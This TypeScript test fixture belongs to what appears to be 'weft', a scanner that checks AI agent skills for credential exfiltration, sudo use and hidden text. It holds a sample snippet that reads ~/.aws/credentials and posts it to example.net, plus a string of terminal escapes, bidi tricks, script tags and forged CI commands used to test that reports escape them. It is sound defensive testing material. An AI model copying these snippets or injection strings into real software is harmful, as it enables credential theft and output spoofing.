import type {Check} from '../../../src/checks/check.ts'
import {capabilityKinds, noCapabilities} from '../../../src/lib/scan/capabilities/capabilities.ts'
import type {Finding, ScanReport, SkillReport} from '../../../src/lib/scan/report.ts'
import type {ReportOptions} from '../../../src/plugins/security/reporters/reporter.ts'

const none = {needs: [], examples: {bad: [], good: []}, run: () => []} as const

export const checks: readonly Check[] = [
  {
    id: 'EX-002',
    name: 'secret-to-network',
    title: 'Secret sent over the network',
    category: 'exfiltration',
    severity: 'critical',
    axis: 'deception',
    rationale:
      'Whoever holds a credential is its owner as far as any server can tell. A skill has no reason to send one anywhere but to its own service.',
    remediation: 'Remove the call. Send a key only to its own service, in the header that this service asks for.',
    references: ['CWE-200', 'LLM02:2025', 'https://attack.mitre.org/techniques/T1552/'],
    ...none,
  },
  {
    id: 'PE-002',
    name: 'privilege-gain',
    title: 'More rights than the user has',
    category: 'permission-escalation',
    severity: 'high',
    axis: 'power',
    rationale: 'A command under sudo can change the whole machine.',
    remediation: 'Say what needs the rights and let the user run it.',
    references: ['CWE-250'],
    ...none,
  },
  {
    id: 'ID-003',
    name: 'internal-detail-exposure',
    title: 'Internal details left in the skill',
    category: 'information-disclosure',
    severity: 'low',
    axis: 'power',
    rationale: 'Internal names help an attacker to find the way.',
    remediation: 'Use reserved example names.',
    references: [],
    ...none,
  },
]

export function finding(overrides: Partial<Finding> = {}): Finding {
  return {
    checkId: 'EX-002',
    checkName: 'secret-to-network',
    category: 'exfiltration',
    axis: 'deception',
    severity: 'critical',
    confidence: 'high',
    file: 'scripts/run.py',
    line: 12,
    column: 3,
    snippet: 'requests.post(URL, data=open(p).read())',
    message: '~/.aws/credentials flows into requests.post to example.net',
    fingerprint: '0123456789abcdef',
    layers: [],
    trace: [],
    ...overrides,
  }
}

export function skill(overrides: Partial<SkillReport> = {}): SkillReport {
  return {
    name: 'weather',
    path: '/home/ann/skills/weather',
    verdict: 'pass',
    reason: 'Nothing was found.',
    deception: {level: 'none', reason: 'Nothing deceptive was found.'},
    power: {level: 'none', reason: 'No check has a word on what it can do.'},
    capabilities: noCapabilities,
    findings: [],
    files: 3,
    bytes: 4200,
    notCovered: [],
    milliseconds: 3,
    ...overrides,
  }
}

export function report(skills: readonly SkillReport[], overrides: Partial<ScanReport> = {}): ScanReport {
  const of = (verdict: string): number => skills.filter((one) => one.verdict === verdict).length
  const all = skills.flatMap((one) => one.findings)
  const severity = (name: string): number => all.filter((one) => one.severity === name && one.suppressed === undefined).length
  return {
    version: 1,
    tool: {name: 'weft', version: '0.1.0'},
    verdict: of('block') > 0 ? 'block' : of('warn') > 0 ? 'warn' : 'pass',
    skills,
    errors: [],
    summary: {
      skills: skills.length,
      pass: of('pass'),
      warn: of('warn'),
      block: of('block'),
      errors: overrides.errors?.length ?? 0,
      findings: {
        info: severity('info'),
        low: severity('low'),
        medium: severity('medium'),
        high: severity('high'),
        critical: severity('critical'),
      },
      suppressed: all.filter((one) => one.suppressed !== undefined).length,
      milliseconds: 34,
    },
    ...overrides,
  }
}

export const options: ReportOptions = {color: false, width: 80, explain: false, minSeverity: 'info', checks, base: '/home/ann'}

/** A blocked skill with one of everything. */
export const blocked = skill({
  name: 'cloud-helper',
  path: '/home/ann/skills/cloud-helper',
  verdict: 'block',
  reason: 'It sends your cloud credentials to example.net and does not say so.',
  deception: {level: 'high', reason: 'It sends your cloud credentials to example.net and does not say so.'},
  power: {level: 'medium', reason: 'Runs systemctl under sudo (SKILL.md:15).'},
  capabilities: {
    uses: {
      network: [{name: 'example.net', file: 'scripts/run.py', line: 12, seenAs: 'script', via: 'requests.post'}],
      programs: [
        {name: 'curl', file: 'SKILL.md', line: 40, seenAs: 'script', via: '', declared: 'requires.bins'},
        {name: 'systemctl', file: 'SKILL.md', line: 15, seenAs: 'command', via: '', elevated: true},
      ],
      reads: [{name: '~/.aws/credentials', file: 'scripts/run.py', line: 4, seenAs: 'script', via: 'open'}],
      hidden: [{name: 'tag characters', file: 'SKILL.md', line: 9, seenAs: 'text', via: '', count: 42}],
      mentioned: [{name: 'docs.example.org', file: 'README.md', line: 1, seenAs: 'text', via: '', declared: 'description'}],
    },
    unused: [{kind: 'programs', name: 'jq', declared: 'requires.bins'}],
    grants: ['Bash(curl:*)'],
    leftOut: {reads: 3},
  },
  changes: [
    {change: 'added', kind: 'network', name: 'example.net', file: 'scripts/run.py', line: 12},
    {change: 'added', kind: 'programs', name: 'systemctl', file: 'SKILL.md', line: 15, elevated: true},
    {change: 'added', kind: 'hidden', name: 'tag characters', file: 'SKILL.md', line: 9, count: 42},
    {change: 'added', kind: 'grants', name: 'Bash(curl:*)'},
    {change: 'removed', kind: 'reads', name: 'notes.txt', file: 'a.py', line: 1},
  ],
  files: 9,
  bytes: 34_567,
  notCovered: ['assets/big.bin: larger than 64 MB'],
  inline: [{file: 'SKILL.md', line: 8, check: 'EX-002', reason: 'it is fine', applied: false}],
  findings: [
    finding({
      trace: [
        {file: 'scripts/run.py', line: 4, note: 'reads ~/.aws/credentials'},
        {file: 'scripts/run.py', line: 12, note: 'sends it to https://example.net/c'},
      ],
    }),
    finding({
      layers: ['gzip', 'base64'],
      file: 'SKILL.md',
      line: 40,
      column: 1,
      fingerprint: '1123456789abcdef',
      message: 'A token flows into curl to example.net',
    }),
    ...Array.from({length: 12}, (_, index) =>
      finding({file: `scripts/copy${index % 3}.py`, line: 20 + index, fingerprint: `2123456789abcd${String(index).padStart(2, '0')}`}),
    ),
    finding({
      checkId: 'PE-002',
      checkName: 'privilege-gain',
      category: 'permission-escalation',
      axis: 'power',
      severity: 'high',
      confidence: 'medium',
      file: 'SKILL.md',
      line: 15,
      column: 1,
      snippet: 'sudo systemctl restart docker',
      message: 'Runs systemctl under sudo',
      fingerprint: '3123456789abcdef',
    }),
    finding({
      checkId: 'ID-003',
      checkName: 'internal-detail-exposure',
      category: 'information-disclosure',
      axis: 'power',
      severity: 'low',
      file: 'README.md',
      line: 3,
      column: 1,
      snippet: 'http://build.corp.example/',
      message: 'Names an internal host',
      fingerprint: '4123456789abcdef',
    }),
    finding({fingerprint: '5123456789abcdef', line: 30, suppressed: {by: 'policy', reason: 'reviewed by Ann', expires: '2027-01-01'}}),
  ],
})

/** Everything in it tries to break out of the report. */
export const hostileText =
  "\u001B[2J\u001B]8;;https://example.com\u0007click\u009B31m \u202Egnp.exe\u2066 <script>alert(1)</script> \"onload='x' ::error::forged ##[group]x `code` **bold** [link](https://example.org) ![img](https://example.org/p.png) @everyone #1 | a |\r\n::stop-commands::x\n# heading\n%0A::warning::y"

export const hostile = skill({
  name: hostileText,
  path: `/home/ann/skills/${hostileText}`,
  verdict: 'block',
  reason: hostileText,
  deception: {level: 'high', reason: hostileText},
  power: {level: 'low', reason: hostileText},
  capabilities: {
    uses: Object.fromEntries(
      capabilityKinds.map((kind) => [
        kind,
        [{name: hostileText, file: hostileText, line: 1, seenAs: 'script', via: hostileText, declared: hostileText}],
      ]),
    ),
    unused: [{kind: 'programs', name: hostileText, declared: hostileText}],
    grants: [hostileText],
    leftOut: {},
  },
  changes: [
    {change: 'added', kind: 'grants', name: hostileText},
    {change: 'added', kind: 'network', name: hostileText, file: hostileText, line: 1},
    {change: 'removed', kind: 'network', name: hostileText, file: hostileText, line: 1},
  ],
  notCovered: [hostileText],
  inline: [{file: hostileText, line: 1, check: hostileText, reason: hostileText, applied: false, problem: hostileText}],
  findings: [
    finding({
      file: hostileText,
      snippet: hostileText,
      message: hostileText,
      layers: [`zip:${hostileText}`],
      trace: [{file: hostileText, line: 1, note: hostileText}],
    }),
    finding({message: hostileText, suppressed: {by: 'inline', reason: hostileText}}),
  ],
})

export const hostileReport = report([hostile], {
  errors: [{path: `/home/ann/${hostileText}`, code: 'WEFT_INPUT_UNREADABLE', message: hostileText}],
  notices: [hostileText],
})
